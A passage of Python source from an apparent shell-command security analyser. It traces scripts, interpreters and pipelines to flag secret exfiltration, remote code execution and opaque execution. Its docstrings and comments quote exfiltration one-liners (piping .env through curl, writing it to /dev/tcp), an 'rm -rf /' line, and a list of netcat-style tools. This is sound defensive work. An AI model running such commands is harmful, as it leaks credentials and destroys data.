                idx = argv.index(peeled.path) if peeled.path in argv else -1
                return self.script_file(argv, dynamic, idx, feeds.get(idx), st, (*via, peeled.label), remote, cwd, text)
        else:
            raise AnalysisLimit(f"more than {self.ctx.config.max_unwrap_depth} nested wrappers")
        if st.scope.cwd == UNKNOWN_CWD:
            dynamic |= {i for i, a in enumerate(argv) if i and not a.startswith(("-", "/", "~"))}
        if "/" in argv[0] and remote is None:
            ran = self.direct_script(argv, dynamic, st, via, cwd, text, env, redirects or [], feed)
            if ran is not None:
                return ran
        from ringfence.analyze import interp

        code = interp.inline_code(argv)
        if code is not None:
            self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, env, redirects or [], feed)
            self.interpreted(code, argv, st, via, remote, cwd, text)
            return Feed(None, "unknown")
        if feed is not None and feed.source in ("net",) and interp.reads_program_from_stdin(argv):
            self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, env, redirects or [], feed)
            return self.remote_exec(argv, text, via)
        if feed is not None and interp.reads_program_from_stdin(argv):
            # `python3 - <<< 'code'`, `… | node`: the input is the program
            self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, env, redirects or [], feed)
            if feed.text is None:
                return self.opaque(
                    argv,
                    dynamic,
                    st,
                    via,
                    remote,
                    cwd,
                    text,
                    f"an interpreter runs a program from {feed.source} input that cannot be seen",
                    emit_cmd=False,
                    source=feed.source,
                )
            self.interpreted((interp.language(argv[0]), feed.text), argv, st, via, remote, cwd, text)
            return Feed(None, "unknown")
        start = len(self.trace.effects)
        cmd = self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, env, redirects or [], feed)
        return self.secret_flow(cmd, feed, start, _output_of(cmd, feed, self))

    def secret_flow(self, cmd: Command, feed: Feed | None, start: int, out: Feed) -> Feed:
        """Follow secrets through a pipeline: ``cat .env | base64 | curl -d @- URL``.

        A command that sends its standard input over the network while a secrets file
        flows into it is a ``secrets.exfil`` (unless the command's own classifier already
        said so); a command that reads a secrets file, or passes one through
        (:data:`SECRET_PASS_THROUGH`), hands it on to the next stage.
        """
        carried = feed.secret_sources if feed is not None else ()
        new = self.trace.effects[start:]
        read = tuple(
            t
            for e in new
            if e.kind == "secrets.read" and e.attrs.get("operation") in ("read", "credential_print")
            for t in _targets(e)
        )
        if carried:
            destination = _stdin_destination(cmd)
            if destination is not None:
                self.exfil(cmd, carried, destination, new)
        flowing = tuple(dict.fromkeys((*read, *(carried if cmd.name in SECRET_PASS_THROUGH else ()))))
        if not flowing:
            return out
        for r in cmd.redirects:  # `cat .env > /dev/tcp/host/port`
            if r.op in (">", ">>", ">|", "&>") and r.target.startswith(("/dev/tcp/", "/dev/udp/")):
                self.exfil(cmd, flowing, r.target, new, pipeline=False)
        return replace(out, secret_sources=flowing)

    def exfil(
        self,
        cmd: Command,
        secrets: tuple[str, ...],
        destination: str,
        found: list[Effect],
        *,
        pipeline: bool = True,
    ) -> None:
        """A ``secrets.exfil`` for the secrets no effect in ``found`` already sends; ``pipeline``:
        through ``cmd``'s standard input (else its output, to a ``/dev/tcp`` socket)."""
        reported = {t for e in found if e.kind == "secrets.exfil" for t in _targets(e)}
        targets = tuple(t for t in secrets if t not in reported)
        if targets:
            self.trace.effects.append(
                effect(
                    "secrets.exfil",
                    cmd,
                    targets=targets,
                    destination=destination,
                    tool=cmd.name,
                    producers=cmd.stdin_from,
                    pipeline=pipeline,
                )
            )

    def change_dir(self, argv: list[str], dynamic: set[int], st: _State) -> None:
        args = [a for a in argv[1:] if not (a.startswith("-") and a != "-")]
        if not args:
            st.scope.cwd = self.ctx.home
        elif 1 in dynamic or args[0] == "-":
            target = args[0]
            if target.startswith("$(") and "rev-parse" in target and self.ctx.workspace:
                st.scope.cwd = self.ctx.workspace
            else:
                st.scope.cwd = UNKNOWN_CWD
        elif st.scope.cwd == UNKNOWN_CWD and not args[0].startswith(("/", "~")):
            st.scope.cwd = UNKNOWN_CWD
        else:
            st.scope.cwd = self.ctx.resolve(args[0], st.scope.cwd)

    def shell_stdin(
        self,
        argv: list[str],
        dynamic: set[int],
        st: _State,
        via: tuple[str, ...],
        remote: str | None,
        cwd: str,
        text: str,
        feed: Feed | None,
        inputs: list[Word],
    ) -> Feed:
        self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, {}, [], feed)
        if feed is None:
            return Feed(None, "unknown")  # interactive shell: nothing to analyse
        if feed.source == "net":
            return self.remote_exec(argv, text, via, producers=feed.producers)
        if feed.text is None:
            return self.opaque(
                argv,
                dynamic,
                st,
                via,
                remote,
                cwd,
                text,
                f"a shell runs a program from {feed.source} input that cannot be seen",
                emit_cmd=False,
                source=feed.source,
            )
        sub = Scope(dict(st.scope.vars), cwd, dict(st.scope.functions), dict(st.scope.aliases))
        self.walk_source(feed.text, sub, via, remote, st.depth + 1)
        return Feed(None, "unknown")

    def script_file(
        self,
        argv: list[str],
        dynamic: set[int],
        idx: int,
        feed: Feed | None,
        st: _State,
        via: tuple[str, ...],
        remote: str | None,
        cwd: str,
        text: str,
    ) -> Feed:
        self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, {}, [], None)
        if feed is not None:  # bash <(…)
            if feed.source == "net":
                return self.remote_exec(argv, text, via)
            if feed.text is not None:
                self.walk_source(feed.text, Scope(cwd=cwd), via, remote, st.depth + 1)
                return Feed(None, "unknown")
            return self.opaque(
                argv,
                dynamic,
                st,
                via,
                remote,
                cwd,
                text,
                "a shell runs a program produced at run time",
                emit_cmd=False,
            )
        if idx < 0 or idx in dynamic:
            return self.opaque(
                argv,
                dynamic,
                st,
                via,
                remote,
                cwd,
                text,
                "a shell runs a script whose name is not known until run time",
                emit_cmd=False,
            )
        path = self.ctx.resolve(argv[idx], cwd)
        if (remote, path) in self.written:  # written earlier in this same command
            content = self.written[(remote, path)]
            if (remote, path) in self.downloaded:
                return self.opaque(
                    argv,
                    dynamic,
                    st,
                    via,
                    remote,
                    cwd,
                    text,
                    f"a shell runs script {argv[idx]}, downloaded by this command",
                    net=True,
                    emit_cmd=False,
                )
            if content is None:
                return self.opaque(
                    argv,
                    dynamic,
                    st,
                    via,
                    remote,
                    cwd,
                    text,
                    f"a shell runs script {argv[idx]}, written by this command with content known only at run time",
                    emit_cmd=False,
                )
        elif remote is not None:
            return Feed(None, "unknown")  # the script lives on the other host
        else:
            self.ctx.fs_reads += 1
            try:
                size = os.path.getsize(path)
            except (OSError, ValueError):
                return Feed(None, "unknown")  # no such script: the shell fails, nothing runs
            content = self.read_file(Word(path)) if size <= MAX_SCRIPT_FILE_BYTES else None
        if content is None:
            return self.opaque(
                argv,
                dynamic,
                st,
                via,
                remote,
                cwd,
                text,
                f"script {argv[idx]} is too large or unreadable to analyse",
                emit_cmd=False,
            )
        sourced = argv[0] in ("source", ".")
        variables: dict[str, str | None] = dict(st.scope.vars) if sourced else {"0": argv[idx]}
        if not sourced or idx + 1 < len(argv):
            variables.update(_positional(argv, dynamic, idx))
        sub = Scope(variables, cwd)
        with self.script_frame(path, content) as fresh:
            if fresh:
                self.walk_source(content, sub, (*via, f"script {argv[idx]}"), remote, st.depth + 1)
        if sourced:
            st.scope.vars.update(sub.vars)
            st.scope.functions.update(sub.functions)
        return Feed(None, "unknown")

    @contextlib.contextmanager
    def script_frame(self, path: str, content: str, *, quiet: bool = False) -> Iterator[bool]:
        """Enter a script file for analysis; yields False when that same script (same path
        and content) is already being analysed further up, i.e. the script runs itself:
        its commands are already in the trace, and walking it again would only recurse
        to the depth limit. ``quiet``: see :meth:`direct_script`."""
        frame = (path, hash(content))
        if frame in self.scripts:
            yield False
            return
        self.scripts.append(frame)
        self.quiet += quiet
        try:
            yield True
        finally:
            self.quiet -= quiet
            self.scripts.pop()

    def direct_script(
        self,
        argv: list[str],
        dynamic: set[int],
        st: _State,
        via: tuple[str, ...],
        cwd: str,
        text: str,
        env: dict[str, str],
        redirects: list[Redirect],
        feed: Feed | None,
    ) -> Feed | None:
        """A file run as a program (``./deploy.sh``, ``scripts/x.py``, ``/opt/run.sh``).

        The file is read, never run. With a shell shebang, or none at all (bash then runs
        the file itself), it is analysed like ``bash FILE``; with a Python, Node, Perl,
        Ruby... shebang, as that language's code. Nothing is analysed for a missing file
        (nothing runs), a binary, a file too large or an interpreter the analysis does not
        know. Returns ``None`` when the caller goes on with the command as usual (its own
        classification, ``-c`` code, ...: ``~/.pyenv/shims/python -c CODE`` is a script
        too); a :class:`Feed` when the command was handled here (a script this command
        downloaded or wrote with unknown content).

        Code that cannot be resolved (``opaque_exec``, ``analysis.error``) inside a script
        that was already on disk is not reported unless :data:`DIRECT_SCRIPT_OPAQUE`: project
        scripts routinely run computed commands (``exec "$JAVACMD" "$@"`` in ``gradlew``),
        and before this analysis such a script was not looked into at all. Its concrete
        effects (deletions, pushes, deploys, ...) are reported. A script this same command
        wrote or downloaded is reported in full.
        """
        if cwd == UNKNOWN_CWD and not argv[0].startswith(("/", "~")):
            return None
        path = self.ctx.resolve(argv[0], cwd)
        key = (None, path)
        quiet = False
        if key in self.written:
            content = self.written[key]
            if key in self.downloaded or content is None:
                self.emit(tuple(argv), dynamic, st, via, None, cwd, text, env, redirects, feed)
                how = "downloaded" if key in self.downloaded else "written with content known only at run time"
                return self.opaque(
                    argv,
                    dynamic,
                    st,
                    via,
                    None,
                    cwd,
                    text,
                    f"script {argv[0]} runs, {how} by this command",
                    net=key in self.downloaded,
                    emit_cmd=False,
                )
        else:
            content = self.read_script(path)
            quiet = not DIRECT_SCRIPT_OPAQUE
        lang = _script_language(content) if content is not None else None
        if content is None or lang is None:
            return None
        with self.script_frame(path, content, quiet=quiet) as fresh:
            if fresh and lang == "sh":
                variables = {"0": argv[0], **_positional(argv, dynamic, 0)}
                self.walk_source(content, Scope(variables, cwd), (*via, f"script {argv[0]}"), None, st.depth + 1)
            elif fresh:
                if st.depth + 1 > self.ctx.config.max_unwrap_depth:
                    raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
                inner = replace(st, depth=st.depth + 1)
                self.interpreted((lang, content), argv, inner, (*via, f"script {argv[0]}"), None, cwd, text)
        return None

    def read_script(self, path: str) -> str | None:
        """The text of a script file run directly; ``None`` for a missing, non-regular,
        binary or too large file. Counts as a filesystem read."""
        self.ctx.fs_reads += 1
        try:
            info = os.stat(path)
            if not stat.S_ISREG(info.st_mode) or info.st_size > MAX_SCRIPT_FILE_BYTES:
                return None
            with open(path, "rb") as fh:
                head = fh.read(512)
                if _is_binary(head) or _script_language(head.decode("utf-8", "replace")) is None:
                    return None
                data = head + fh.read(MAX_SCRIPT_FILE_BYTES + 1 - len(head))
        except (OSError, ValueError):
            return None
        if len(data) > MAX_SCRIPT_FILE_BYTES:
            return None
        return data.decode("utf-8", "replace")

    def interpreted(
        self,
        code: Any,
        argv: list[str],
        st: _State,
        via: tuple[str, ...],
        remote: str | None,
        cwd: str,
        text: str,
    ) -> None:
        from ringfence.analyze import interp

        lang, source = code
        label = f"{argv[0].rsplit('/', 1)[-1]} {lang}"
        for directive in interp.analyse(lang, source):
            if directive.kind == "shell":
                sub = Scope(cwd=cwd)
                self.walk_source(directive.value, sub, (*via, label), remote, st.depth + 1)
            elif directive.kind == "argv":
                self.run(
                    [Word(a) for a in directive.argv],
                    replace(st, via=(*via, label), remote=remote, scope=Scope(cwd=cwd)),
                    text=text,
                )
            elif directive.kind == "remote":
                self.trace.effects.append(
                    Effect(
                        "code.remote_exec",
                        {"interpreter": lang, "reason": directive.value},
                        evidence=text[:500],
                        via=(*via, label),
                    )
                )
            elif directive.kind == "opaque" and not self.quiet:
                self.trace.effects.append(
                    Effect(
                        "opaque_exec",
                        {"reason": directive.value, "interpreter": lang},
                        evidence=text[:500],
                        via=(*via, label),
                    )
                )

    def remote_exec(self, argv: list[str], text: str, via: tuple[str, ...], **attrs: Any) -> Feed:
        """Record that an interpreter (``argv[0]``) runs code downloaded from the network."""
        attrs = {"interpreter": argv[0].rsplit("/", 1)[-1], **attrs}
        self.trace.effects.append(Effect("code.remote_exec", attrs, evidence=text[:500], via=via))
        return Feed(None, "unknown")

    def opaque(
        self,
        argv: list[str],
        dynamic: set[int],
        st: _State,
        via: tuple[str, ...],
        remote: str | None,
        cwd: str,
        text: str,
        reason: str,
        *,
        net: bool = False,
        emit_cmd: bool = True,
        source: str | None = None,
    ) -> Feed:
        if emit_cmd:
            self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, {}, [], None, classify=False)
        kind = "code.remote_exec" if net or source == "net" else "opaque_exec"
        if self.quiet and kind == "opaque_exec":
            return Feed(None, "unknown")
        attrs: dict[str, Any] = {"reason": reason}
        if source:
            attrs["source"] = source
        if remote:
            attrs["remote"] = remote
        self.trace.effects.append(Effect(kind, attrs, evidence=text[:500], via=via))
        return Feed(None, "unknown")

    def emit(
        self,
        argv: tuple[str, ...],
        dynamic: set[int],
        st: _State,
        via: tuple[str, ...],
        remote: str | None,
        cwd: str,
        text: str,
        env: dict[str, str],
        redirects: list[Redirect],
        feed: Feed | None,
        *,
        classify: bool = True,
    ) -> Command:
        cmd = Command(
            argv=argv,
            text=text[:2000],
            via=via,
            dynamic=frozenset(dynamic),
            stdin=feed.text if feed is not None else None,
            stdin_from=feed.producers if feed is not None else (),
            redirects=tuple(redirects),
            env=env,
            cwd=cwd,
            remote=remote,
        )
        self.trace.commands.append(cmd)
        effects = self.trace.effects
        effects.append(effect("exec", cmd, program=cmd.name))
        if classify:
            for fn in classifiers_for(cmd.name):
                effects.extend(fn(cmd, self.ctx))
        if redirects:
            self.redirect_effects(cmd)
        if redirects or cmd.name in ("tee", "curl", "wget"):
            self.record_writes(cmd, st.remote)
        return cmd

    def record_writes(self, cmd: Command, shell_host: str | None) -> None:
        """Remember what ``cmd`` writes to files (``echo … > f``, ``cat <<EOF > f``, ``tee f``,
        ``curl -o f``), so that a script this same source runs afterwards can be analysed.
        Redirections are opened by the shell (``shell_host``), even for ``docker exec c cmd``."""
        out = _static_output([cmd], self.ctx, cmd.cwd)
        targets: list[tuple[str | None, str, bool, str | None]] = []
        for r in cmd.redirects:
            if r.op in (">", ">|", ">>", "&>", "&>>") and r.target != DYNAMIC_MARK:
                targets.append((shell_host, r.target, r.op.endswith(">>"), out if r.fd in (None, 1) else None))
        if cmd.name == "tee":
            files = [a for i, a in enumerate(cmd.args, start=1) if not a.startswith("-") and i not in cmd.dynamic]
            targets.extend((cmd.remote, f, "-a" in cmd.args, cmd.stdin) for f in files)
        downloads = _download_targets(cmd) if cmd.name in ("curl", "wget") else []
        targets.extend((cmd.remote, f, False, None) for f in downloads)
        for host, target, append, content in targets:
            key = (host, self.ctx.resolve(target, cmd.cwd or None))
            if append and content is not None:
                before = self.written[key] if key in self.written else self.read_file(Word(key[1]))
                content = before + content if before is not None else None
            self.written[key] = content
            net = cmd.name in NETWORK_FETCHERS or bool(cmd.stdin_from and cmd.stdin_from[-1] in NETWORK_FETCHERS)
            if net or target in downloads:
                self.downloaded.add(key)
            else:
                self.downloaded.discard(key)

    def redirect_effects(self, cmd: Command) -> None:
        from ringfence.analyze import files

        for r in cmd.redirects:
            if r.target == DYNAMIC_MARK:
                if r.op not in ("<", "<&"):
                    self.trace.effects.append(effect("fs.write", cmd, targets=(), unknown_target=True))
                continue
            if r.op in ("<", "<&", "<>"):
                self.trace.effects.extend(
                    files.read_effects(r.target, self.ctx, evidence=cmd.evidence, via=cmd.via, cwd=cmd.cwd or None)
                )
                continue
            self.trace.effects.extend(
                files.write_effects(r.target, self.ctx, evidence=cmd.evidence, via=cmd.via, cwd=cmd.cwd or None)
            )


@dataclass(frozen=True, slots=True)
class _State:
    scope: Scope
    via: tuple[str, ...]
    remote: str | None
    depth: int
    stdin: Feed | None = None  # what a compound command, function or -c script reads
    src: bytes = b""  # the original bytes of the parse the nodes being walked come from


# -- helpers -----------------------------------------------------------------------------------


def _text(node: Node | None, src: bytes) -> str:
    """The source text of ``node``, read from the original bytes of its parse (``src``).

    The parser may have been given placeholders in place of some characters (see
    :func:`_parser_bytes`); they have the same byte length, so offsets agree.
    """
    if node is None:
        return ""
    return src[node.start_byte : node.end_byte].decode("utf-8", "surrogateescape")


def _backtick_source(node: Node, src: bytes) -> str | None:
    """The command inside a backtick substitution, when bash's backslash pass changes it.

    Inside backticks bash first removes a backslash before ``$``, `````` ` `````` or ``\\``,
    then parses the result; tree-sitter parses the text as written.
    """
    text = _text(node, src)
    if not (text.startswith("`") and text.endswith("`") and len(text) >= 2 and "\\" in text):
        return None
    inner = text[1:-1]
    result = _unescape_backticks(inner)
    return result if result != inner else None


_BACKTICKS = re.compile(r"`((?:[^`\\]|\\[\s\S])*)`")


def _unescape_backticks(inner: str) -> str:
    """Bash's backslash pass inside backticks: ``\\$``, ``\\``` and ``\\\\`` lose the backslash."""
    out: list[str] = []
    i = 0
    while i < len(inner):
        if inner[i] == "\\" and i + 1 < len(inner) and inner[i + 1] in "$`\\":
            out.append(inner[i + 1])
            i += 2
        else:
            out.append(inner[i])
            i += 1
    return "".join(out)


DEFAULT_IFS = " \t\n"
_SPLIT_NODES = frozenset({"simple_expansion", "expansion", "command_substitution"})


@functools.lru_cache(maxsize=32)
def _ifs_separator(ifs: str) -> re.Pattern[str]:
    white = re.escape("".join(c for c in ifs if c in DEFAULT_IFS))
    other = re.escape("".join(c for c in ifs if c not in DEFAULT_IFS))
    parts = []
    if other:
        parts.append(f"[{white}]*[{other}][{white}]*" if white else f"[{other}]")
    if white:
        parts.append(f"[{white}]+")
    return re.compile("|".join(parts))


def _split_fields(fields: list[list[Word]], w: Word, ifs: str) -> None:
    """Split the known value of an unquoted expansion into ``fields`` (bash field splitting)."""
    value = w.value
    if not any(c in ifs for c in value):
        fields[-1].append(w)
        return
    white = "".join(c for c in ifs if c in DEFAULT_IFS)
    core = value.strip(white)
    if value[0] in ifs:
        fields.append([])
    for k, piece in enumerate(_ifs_separator(ifs).split(core) if core else []):
        if k:
            fields.append([])
        if piece:
            fields[-1].append(Word(piece, net=w.net))
    if value[-1] in ifs:
        fields.append([])


def _is_ifs(node: Node) -> bool:
    return (node.type == "simple_expansion" and node.text == b"$IFS") or (
        node.type == "expansion" and node.text == b"${IFS}"
    )


# Words that are syntax at the start of a command: a "command" with one of these names is
# tree-sitter-bash misreading `time …` or `! …` before a compound command.
_RESERVED_WORDS = frozenset(
    {
        b"!",
        b"{",
        b"}",
        b"if",
        b"then",
        b"elif",
        b"else",
        b"fi",
        b"do",
        b"done",
        b"case",
        b"esac",
        b"while",
        b"until",
        b"for",
        b"select",
        b"function",
        b"[[",
        b"]]",
    }
)
_name_query: Any = None
_word_query: Any = None


def _parser_bytes(source: str) -> tuple[bytes, bytes]:
    """``(original, for_the_parser)``: the UTF-8 bytes of ``source``, and the same bytes
    with every character past U+00FF replaced by a run of one ASCII letter, as long as
    the character's UTF-8 encoding.

    The replacement keeps every byte offset, so a node's text is read from the original
    bytes. Letters are plain word characters to the grammar, as the characters they stand
    for are to bash: they cannot open or close a quote or a substitution, and a word with
    a doubled letter is never a reserved word (none has one). Distinct characters get
    distinct letters (up to 52 of them), so a heredoc delimiter written with such
    characters does not match a different line; :func:`_check_heredoc_delimiters` catches
    what is left.
    """
    if source.isascii():
        data = source.encode("ascii")
        return data, data
    if _LONE_SURROGATE.search(source):
        source = _LONE_SURROGATE.sub("\u00bf", source)
    data = source.encode("utf-8", "surrogateescape")
    if not _PARSER_UNSAFE.search(source):
        return data, data
    letters: dict[str, str] = {}

    def placeholder(m: re.Match[str]) -> str:
        ch = m.group()
        run = letters.get(ch)
        if run is None:
            run = letters[ch] = _PLACEHOLDER_LETTERS[len(letters) % 52] * len(ch.encode("utf-8"))
        return run

    return data, _PARSER_UNSAFE.sub(placeholder, source).encode("utf-8", "surrogateescape")


_PLACEHOLDER_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


_heredoc_query: Any = None


def _check_heredoc_delimiters(tree: Any, original: bytes) -> None:
    """Raise :class:`AnalysisLimit` if a heredoc ends at a line that only matched a placeholder.

    Two different characters of the same UTF-8 length get the same placeholder, so the
    parser could end a heredoc at a line that bash does not take for its delimiter (and
    read the rest of the body as commands, or the commands after it as text).
    """
    global _heredoc_query
    import tree_sitter

    if _heredoc_query is None:
        _heredoc_query = tree_sitter.Query(tree.language, "(heredoc_redirect) @h")
    for node in tree_sitter.QueryCursor(_heredoc_query).captures(tree.root_node).get("h", []):
        start = next((c for c in node.children if c.type == "heredoc_start"), None)
        end = next((c for c in node.children if c.type == "heredoc_end"), None)
        if start is None or end is None:
            continue
        delimiter = _text(start, original).translate(_DELIMITER_QUOTES)
        if _text(end, original) != delimiter:
            raise AnalysisLimit("a heredoc delimiter with characters past U+00FF cannot be matched reliably")


_DELIMITER_QUOTES = str.maketrans("", "", "'\"\\")


def _blank_misparsed_keywords(original: bytes, data: bytes, tree: Any) -> tuple[Any, bytes]:
    """Re-parse without the ``time``, ``!`` and ``coproc`` keywords where the grammar misreads them.

    tree-sitter-bash parses ``time`` and ``coproc`` as command names and does not accept
    ``!`` before ``{``, ``if``, ``for``... (it reads ``if``/``{`` as command names). None of
    these keywords changes what runs — ``time`` reports durations, ``!`` negates the exit
    status, ``coproc`` runs its command in the background — so the bytes of the misread
    keyword are replaced by spaces and the source is parsed again.

    The grammar also glues a line that starts with a backslash-quoted character
    (``\\rm -rf /``) onto the previous command as one more argument (or as its name after
    an assignment, or onto a heredoc's start, losing its body); the quoted character is
    written with single quotes instead (``'r'm -rf /``), which means the same to the shell.
    """
    glued = b"\n\\" in data
    if b"time" not in data and b"!" not in data and b"coproc" not in data and not glued:
        return tree, original
    global _name_query, _word_query
    import tree_sitter

    if _name_query is None or _word_query is None:
        _name_query = tree_sitter.Query(tree.language, "(command name: (command_name (word) @name))")
        _word_query = tree_sitter.Query(tree.language, "(word) @word")
    for _ in range(8):
        spans: list[tuple[int, int, bytes]] = []
        for node in tree_sitter.QueryCursor(_name_query).captures(tree.root_node).get("name", []):
            spans.extend((start, end, b" " * (end - start)) for start, end in _misread_keyword(node))
        words = tree_sitter.QueryCursor(_word_query).captures(tree.root_node).get("word", []) if glued else []
        for node in words:
            text = node.text or b""
            if text.startswith(b"\n\\") and len(text) > 2 and text[2] < 0x80 and not _in_backticks(node):
                char = text[2:3]
                quoted = b'"\'"' if char == b"'" else b"'" + char + b"'"
                spans.append((node.start_byte + 1, node.start_byte + 3, quoted))
        if not spans:
            break
        # the spans cover ASCII bytes only, which are the same in both buffers
        buf = bytearray(data)
        orig = bytearray(original)
        for start, end, replacement in sorted(spans, reverse=True):
            buf[start:end] = replacement
            orig[start:end] = replacement
        data = bytes(buf)
        original = bytes(orig)
        tree = _get_parser().parse(data)
    return tree, original


def _in_backticks(node: Node) -> bool:
    """Inside a backtick substitution (re-parsed after bash's backslash pass)."""
    cur = node.parent
    while cur is not None:
        if cur.type == "command_substitution" and (cur.text or b"").startswith(b"`"):
            return True
        cur = cur.parent
    return False


def _misread_keyword(word_node: Node) -> list[tuple[int, int]]:
    """The byte spans to blank for one command-name word, if it is a misread keyword."""
    word = word_node.text or b""
    command_name = word_node.parent
    command = command_name.parent if command_name is not None else None
    if command_name is None or command is None:
        return []
    if word in (b"time", b"coproc"):
        if command.children and command.children[0].type != "command_name":
            return []  # `X=1 time cmd` runs the program time
        spans = [(word_node.start_byte, word_node.end_byte)]
        nxt = command_name.next_named_sibling
        after = nxt.next_named_sibling if nxt is not None else None
        if word == b"time" and nxt is not None and nxt.text == b"-p":
            spans.append((nxt.start_byte, nxt.end_byte))
        elif (
            word == b"coproc"
            and nxt is not None
            and after is not None
            and (after.text == b"{" or after.type == "subshell")
        ):
            spans.append((nxt.start_byte, nxt.end_byte))  # coproc NAME { …; }
        return spans
    if word == b"!":
        return [(word_node.start_byte, word_node.end_byte)]
    first = word.split()[0] if word.strip() else b""  # the grammar may read `{ {` as one word
    if first in _RESERVED_WORDS and command.parent is not None and command.parent.type == "negated_command":
        bang = command.parent.children[0]
        if bang.type == "!":
            return [(bang.start_byte, bang.end_byte)]
    return []


_EVAL_PREFIX = frozenset({"eval", "builtin", "command", "exec", "nohup", "time"})


def _eval_chain(argv: list[str]) -> int:
    """How many nested sources an ``eval`` command leads to: one per ``eval`` in its run of
    leading ``eval``/``builtin``/``command``… words (``eval eval eval cmd`` is three).

    Counted before anything is re-parsed, so that a long chain fails at once instead of
    re-parsing the whole text at every level.
    """
    count = 0
    for word in argv:
        if word not in _EVAL_PREFIX:
            break
        count += word == "eval"
    return count


def _positional(argv: list[str], dynamic: set[int], idx: int) -> dict[str, str | None]:
    """``$1``… of a script run as ``argv[idx]`` with the arguments after it."""
    return {str(k): (None if idx + k in dynamic else a) for k, a in enumerate(argv[idx + 1 : idx + 10], start=1)}


def _is_binary(head: bytes) -> bool:
    """An executable format the kernel runs itself (ELF, Mach-O...), or data: not a script."""
    return head.startswith(b"\x7fELF") or b"\0" in head


def _script_language(text: str) -> str | None:
    """How a file run directly is interpreted: ``"sh"`` for a shell (or no ``#!`` line:
    bash runs such a file itself), an :mod:`~ringfence.analyze.interp` language, or
    ``None`` for an interpreter the analysis does not know."""
    if not text.startswith("#!"):
        return "sh"
    words = text[2:].split("\n", 1)[0].split()
    if words and words[0].rsplit("/", 1)[-1] == "env":
        words = words[1:]
        while words and (words[0].startswith("-") or "=" in words[0]):
            flag = words.pop(0)
            if flag.startswith("-S") and len(flag) > 2:
                words.insert(0, flag[2:])  # -Sbash
            elif flag in ("-u", "--unset", "-C", "--chdir") and words:
                words.pop(0)
    if not words:
        return "sh" if text[2:].split("\n", 1)[0].strip() == "" else None
    name = words[0].rsplit("/", 1)[-1]
    if name in unwrap.SHELLS:
        return "sh"
    from ringfence.analyze import interp

    return interp.script_language(name)


def _stage_name(node: Node, src: bytes) -> str:
    cur: Node | None = node
    while cur is not None and cur.type == "redirected_statement":
        cur = cur.child_by_field_name("body")
    if cur is not None and cur.type == "command":
        name = cur.child_by_field_name("name")
        if name is not None:
            return _unescape_word(_text(name, src)).strip("'\"").rsplit("/", 1)[-1]
    return ""


def _join(parts: list[Word]) -> Word:
    if len(parts) == 1:
        return parts[0]
    return Word(
        "".join(p.value for p in parts),
        dynamic=any(p.dynamic for p in parts),
        net=any(p.net for p in parts),
    )


def _unescape_word(s: str) -> str:
    if "\\" not in s:
        return s
    out: list[str] = []
    i = 0
    while i < len(s):
        ch = s[i]
        if ch == "\\" and i + 1 < len(s):
            if s[i + 1] == "\n":
                i += 2
                continue
            out.append(s[i + 1])
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def _unescape_dq(s: str) -> str:
    if "\\" not in s:
        return s
    out: list[str] = []
    i = 0
    while i < len(s):
        ch = s[i]
        if ch == "\\" and i + 1 < len(s) and s[i + 1] in '$`"\\\n':
            if s[i + 1] != "\n":
                out.append(s[i + 1])
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)


_ANSI = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "a": "\a",
    "b": "\b",
    "f": "\f",
    "v": "\v",
    "e": "\x1b",
    "E": "\x1b",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}


def _ansi_c(s: str) -> str:
    out: list[str] = []
    i = 0
    n = len(s)
    while i < n:
        ch = s[i]
        if ch != "\\" or i + 1 >= n:
            out.append(ch)
            i += 1
            continue
        nxt = s[i + 1]
        if nxt in _ANSI:
            out.append(_ANSI[nxt])
            i += 2
        elif nxt == "x":
            j = i + 2
            while j < n and j < i + 4 and s[j] in "0123456789abcdefABCDEF":
                j += 1
            out.append(chr(int(s[i + 2 : j], 16)) if j > i + 2 else "\\x")
            i = j
        elif nxt in ("u", "U"):
            width = 4 if nxt == "u" else 8
            j = i + 2
            while j < n and j < i + 2 + width and s[j] in "0123456789abcdefABCDEF":
                j += 1
            try:
                out.append(chr(int(s[i + 2 : j], 16)) if j > i + 2 else "\\" + nxt)
            except (ValueError, OverflowError):
                out.append("?")
            i = j
        elif nxt in "01234567":
            j = i + 1
            while j < n and j < i + 4 and s[j] in "01234567":
                j += 1
            out.append(chr(int(s[i + 1 : j], 8) & 0xFF))
            i = j
        elif nxt == "c" and i + 2 < n:
            out.append(chr(ord(s[i + 2]) & 0x1F))
            i += 3
        else:
            out.append("\\" + nxt)
            i += 2
    return "".join(out)


def _safe_split(s: str) -> list[str]:
    try:
        return shlex.split(s)
    except ValueError:
        return s.split()


def _targets(e: Effect) -> tuple[str, ...]:
    targets = e.attrs.get("targets")
    return targets if isinstance(targets, tuple) else ()


_STDIN_SOCKETS = frozenset({"nc", "ncat", "netcat", "telnet", "ssh", "mail", "mailx", "sendmail", "mutt"})
_NC_VALUES = frozenset({"-p", "-w", "-s", "-x", "-X", "-i", "-q", "-e", "-c", "-I", "-O", "-T", "-V", "-W"})
_SSH_VALUES = unwrap.SSH_VALUE_OPTIONS  # one table of ssh's options that take a value
_CURL_STDIN_BODIES = ("@-", "@/dev/stdin", "@/dev/fd/0")


def _stdin_destination(cmd: Command) -> str | None:
    """Where ``cmd`` sends its standard input over the network, or ``None`` if it does not
    (``curl -d @-``/``-T -``, ``wget --post-file=-``, httpie, ``nc``/``socat``/``telnet``,
    ``ssh HOST``, mail, ``scp /dev/stdin HOST:…``, ``aws s3 cp - s3://…``, ``rclone rcat``...)."""
    name, args = cmd.name, cmd.args
    if name == "curl":
        return _curl_url(args) if _curl_sends_stdin(args) else None
    if name == "wget":
        for k, a in enumerate(args):
            opt, eq, value = a.partition("=")
            if opt in ("--post-file", "--body-file") and (
                value if eq else (args[k + 1] if k + 1 < len(args) else "")
            ) in (
                "-",
                "/dev/stdin",
            ):
                return _curl_url(args)
        return None
    if name in ("http", "https", "xh", "xhs"):
